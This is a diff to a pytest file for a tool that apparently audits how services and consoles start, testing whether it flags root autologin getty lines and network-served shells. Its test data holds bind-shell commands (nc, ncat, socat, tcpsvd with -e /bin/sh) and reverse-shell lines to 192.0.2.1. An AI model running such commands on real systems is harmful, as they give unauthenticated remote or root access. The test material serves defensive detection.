@@ -64,11 +64,33 @@ def test_port_and_address_come_from_the_command_line(line: str, port: int, reach
     ("line", "login"),
     [("sh", "none"), ("ash --login", "none"), ("getty 115200 ttyS0", "system"),
      ("getty -n -l /bin/sh 115200 ttyS0", "none"),
-     ("login -f root", "none"), ("login", "system")],
+     ("login -f root", "none"), ("login -froot", "none"), ("login", "system"), ("sulogin", "system"),
+     ("agetty -aroot ttyS0", "none"), ("agetty --autologin=root ttyS0", "none"), ("getty -a root ttyS0", "none"),
+     ("agetty -o '-f root' ttyS0", "none"), ("agetty -o -f ttyS0", "none"), ("mgetty -a ttyS0", "system"),
+     ("getty -l /usr/bin/menu ttyS0", "unknown"), ("getty -l /bin/login ttyS0", "system")],
 )  # fmt: skip
 def test_a_console_is_physical_and_asks_as_it_is_started(line: str, login: str) -> None:
     found = matched(start(line, mechanism="inittab"))
     assert [(one.protocol, one.reach, one.login, one.port) for one in found] == [("console", "physical", login, None)]
+
+
+@pytest.mark.parametrize(
+    ("line", "port"),
+    [("nc -lk -p 4444 -e /bin/sh", 4444), ("nc -l -p 23 -e /bin/sh", 23), ("ncat --listen --exec /bin/bash", None),
+     ("socat TCP-LISTEN:2323,reuseaddr,fork EXEC:/bin/sh", 2323), ("tcpsvd -E 0.0.0.0 5555 sh -i", 5555)],
+)  # fmt: skip
+def test_a_shell_that_is_served_asks_nobody(line: str, port: int | None) -> None:
+    assert [(one.protocol, one.login, one.port) for one in matched(start(line))] == [("shell", "none", port)]
+
+
+@pytest.mark.parametrize(
+    "line",
+    ["nc 192.0.2.1 80 -e /bin/sh", "nc -l -s 127.0.0.1 -p 80 -e /bin/sh", "ncat -l 127.0.0.1 80 -e /bin/sh",
+     "nc -l -p 80", "socat TCP:192.0.2.1:80 EXEC:/bin/sh", "tcpsvd 127.0.0.1 23 sh",
+     "socat TCP-LISTEN:80,bind=127.0.0.1 EXEC:/bin/sh", "tcpsvd 0 80 answer"],
+)  # fmt: skip
+def test_what_serves_no_shell_to_others_is_no_service(line: str) -> None:
+    assert matched(start(line)) == []
 
 
 def test_a_start_script_is_not_the_service_that_it_is_named_after() -> None:
